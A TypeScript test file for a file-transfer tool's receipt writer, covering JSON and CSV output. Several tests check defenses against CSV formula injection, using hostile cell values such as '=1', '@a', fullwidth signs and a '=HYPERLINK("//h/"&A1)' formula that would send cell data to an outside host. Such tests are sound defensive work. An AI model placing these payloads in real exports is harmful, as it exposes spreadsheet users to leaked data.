import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { failure } from '../../../shared/errors.ts';
import { TITLE } from '../testing/transfer-parts.ts';
import type { JournalRecord } from './journal/records.ts';
import { writeReceipts } from './receipts.ts';

let folder = '';
beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), 'pail-receipts-'));
});
afterEach(() => rm(folder, { recursive: true }));

const title = {
  ...TITLE,
  place: { ...TITLE.place, prefix: 'home/' },
  folder: 'in/',
  request: { kind: 'upload' as const, paths: [], emptyFolders: true },
};
const records: JournalRecord[] = [
  { r: 'title', title },
  {
    r: 'items',
    from: 0,
    names: ['=1+1.txt', 'a "b", c', 'new\nline', 'later'],
    sizes: [1, 2, 3, 4],
    modified: [0, 0, 0, 0],
    origins: ['/x/=1+1.txt', '/x/a', '/x/b', '/x/later'],
  },
  { r: 'choices', choices: [[1, 'keep-both', 'a (2)']] },
  { r: 'states', changes: [{ index: 0, state: 'failed', failure: failure('disk-full') }] },
  {
    r: 'states',
    changes: [
      {
        index: 0,
        state: 'done',
        size: 9,
        receipt: { etag: '"e"', etagKind: 'md5', versionId: 'v', from: 0, to: 1500 },
      },
      { index: 1, state: 'done', size: 2, receipt: { etag: '"f-2"', etagKind: 'parts-md5', from: 0, to: 1 } },
      { index: 2, state: 'failed', failure: failure('access-denied', { subject: 'new' }) },
    ],
  },
];

test('as JSON: the last word of each item, in order', async () => {
  await writeReceipts(records, { folder, name: 'r.json' }, 'json');
  const rows = JSON.parse(await readFile(join(folder, 'r.json'), 'utf8'));
  expect(rows).toHaveLength(4);
  expect(rows[0]).toEqual({
    kind: 'upload',
    bucket: 'b',
    key: 'home/in/=1+1.txt',
    file: '/x/=1+1.txt',
    state: 'done',
    bytes: 9,
    etag: 'e',
    checksum: 'e',
    checksumAlgorithm: 'MD5',
    versionId: 'v',
    begun: '1970-01-01T00:00:00.000Z',
    ended: '1970-01-01T00:00:01.500Z',
    failure: '',
  });
  const parts = { checksum: 'f', checksumAlgorithm: 'MD5 of the MD5s of 2 parts' };
  expect(rows[1]).toMatchObject({ key: 'home/in/a (2)', etag: 'f-2', ...parts, versionId: '' });
  expect(rows[2]).toMatchObject({ state: 'failed', failure: failure('access-denied', { subject: 'new' }).message });
  expect(rows[3]).toMatchObject({ key: 'home/in/later', state: 'waiting', begun: '' });
  expect(await readdir(folder)).toEqual(['r.json']);
});

test('as CSV: quoted where needed, and nothing that a spreadsheet computes', async () => {
  const bare: JournalRecord[] = [
    { r: 'title', title: { ...title, place: TITLE.place, folder: '' } },
    ...records.slice(1),
  ];
  await writeReceipts(bare, { folder, name: 'r.csv' }, 'csv');
  const lines = (await readFile(join(folder, 'r.csv'), 'utf8')).split('\r\n');
  expect(lines[0]).toBe(
    'kind,bucket,key,file,state,bytes,etag,checksum,checksumAlgorithm,versionId,begun,ended,failure',
  );
  expect(lines[1]).toContain("upload,b,'=1+1.txt,/x/=1+1.txt,done,9,e,e,MD5,v,");
  expect(lines[3]).toContain('upload,b,"new\nline",/x/b,failed,3,');
  expect(lines).toHaveLength(6);
});

test('no cell of a CSV is a formula, whatever is before the sign', async () => {
  const signs = ['=1', '+1', '-1', '@a', '\t=1', '\r=1', '\n=1', '  =1', '\u00a0=1', '\uff1d1', '\uff0b1'];
  const names = [...signs, '=1,"', 'a=1'];
  const hostile: JournalRecord[] = [
    { r: 'title', title: { ...title, place: TITLE.place, folder: '' } },
    { r: 'items', from: 0, names, sizes: names.map(() => 1), modified: [], origins: names },
    // An ETag and a version are whatever the store says.
    {
      r: 'states',
      changes: [{ index: 12, state: 'done', receipt: { etag: '-1+1', versionId: '=1', from: 0, to: 1 } }],
    },
  ];
  await writeReceipts(hostile, { folder, name: 'r.csv' }, 'csv');
  const text = await readFile(join(folder, 'r.csv'), 'utf8');
  for (const sign of signs) {
    const cell = /[\t\r\n]/.test(sign) ? `"'${sign.replace('=', "'=")}"` : `'${sign}`;
    expect(text).toContain(`upload,b,${cell},${cell},waiting,1,`);
  }
  expect(text).toContain(`upload,b,"'=1,""","'=1,""",waiting,1,`);
  expect(text).toContain("upload,b,a=1,a=1,done,1,'-1+1,,,'=1,");
});

/** The cells of a CSV as spreadsheets find them that separate so; `quotes`: those that a cell begins with hold it together. */
function cellsOf(csv: string, separators: string, quotes: boolean): string[] {
  const cells: string[] = [];
  let cell = '';
  let isQuoted = false;
  let isAtStart = true;
  for (let at = 0; at < csv.length; at += 1) {
    const sign = csv.charAt(at);
    if (isQuoted) {
      if (sign !== '"') cell += sign;
      else if (csv.charAt(at + 1) === '"') cell += csv.charAt(++at);
      else isQuoted = false;
    } else if (sign === '"' && quotes && isAtStart) {
      isQuoted = true;
      isAtStart = false;
    } else if (separators.includes(sign) || sign === '\n' || sign === '\r') {
      cells.push(cell);
      cell = '';
      isAtStart = true;
    } else {
      cell += sign;
      isAtStart = false;
    }
  }
  return [...cells, cell];
}

const hostileText = fc
  .array(fc.constantFrom('=', '+', '-', '@', '\uff1d', ';', '\t', '\r', '\n', ',', '"', "'", ' ', '\u00a0', 'a', '1'), {
    minLength: 1,
    maxLength: 12,
  })
  .map((signs) => signs.join(''));

test('nor is one where a spreadsheet separates by something else, or does not see the quotes', async () => {
  await fc.assert(
    fc.asyncProperty(fc.array(hostileText, { minLength: 1, maxLength: 20 }), async (names) => {
      const hostile: JournalRecord[] = [
        { r: 'title', title: { ...title, place: TITLE.place, folder: '' } },
        { r: 'items', from: 0, names, sizes: names.map(() => 1), modified: [], origins: names },
      ];
      await writeReceipts(hostile, { folder, name: 'r.csv' }, 'csv');
      const csv = await readFile(join(folder, 'r.csv'), 'utf8');
      for (const [separators, quotes] of [
        [',', true],
        [';', true],
        ['\t', true],
        [';', false],
        ['\t', false],
        [',;\t', true],
      ] as const) {
        const formula = quotes ? /^\s*[=+\-@\uff1d]/ : /^[\s"]*[=+\-@\uff1d]/;
        expect(cellsOf(csv, separators, quotes).filter((cell) => formula.test(cell))).toEqual([]);
      }
    }),
    { numRuns: 150 },
  );
});

test('a cell is what it was but for apostrophes before signs', async () => {
  const names = ['x;=HYPERLINK("//h/"&A1);y', 'a\n=1', 'a;"=1', 'a; b=1', 'a,=1', 'a-b; c-d'];
  const hostile: JournalRecord[] = [
    { r: 'title', title: { ...title, place: TITLE.place, folder: '' } },
    { r: 'items', from: 0, names, sizes: names.map(() => 1), modified: [], origins: names.map(() => '') },
  ];
  await writeReceipts(hostile, { folder, name: 'r.csv' }, 'csv');
  const csv = await readFile(join(folder, 'r.csv'), 'utf8');
  const keys = cellsOf(csv.replaceAll('\r\n', ','), ',', true).filter((_, at) => at > 13 && at % 13 === 2);
  expect(keys).toEqual([`x;'=HYPERLINK("//h/"&A1);y`, "a\n'=1", `a;"'=1`, 'a; b=1', 'a,=1', 'a-b; c-d']);
});

test('a copy is told under the name that it has where it went', async () => {
  const source = { locationId: 'l', place: TITLE.place, folder: '' };
  const renamed: JournalRecord[] = [
    { r: 'title', title: { ...title, request: { kind: 'move', source, folders: [], renaming: null } } },
    { r: 'items', from: 0, names: ['a.txt'], sizes: [1], modified: [0], origins: ['b.txt'] },
  ];
  await writeReceipts(renamed, { folder, name: 'r.json' }, 'json');
  expect(JSON.parse(await readFile(join(folder, 'r.json'), 'utf8'))).toMatchObject([
    { key: 'home/in/b.txt', file: '' },
  ]);
});

test('what cannot be written leaves nothing', async () => {
  const place = { folder: join(folder, 'gone'), name: 'r.csv' };
  await expect(writeReceipts(records, place, 'csv')).rejects.toMatchObject({ failure: { code: 'target-unwritable' } });
  await writeReceipts(records, { folder, name: 'r.csv' }, 'csv');
  const broken = (function* (): Generator<JournalRecord> {
    yield* records;
    throw new Error('broken');
  })();
  await expect(writeReceipts(broken, { folder, name: 'r.csv' }, 'csv')).rejects.toBeDefined();
  expect(await readdir(folder)).toEqual(['r.csv']);
});
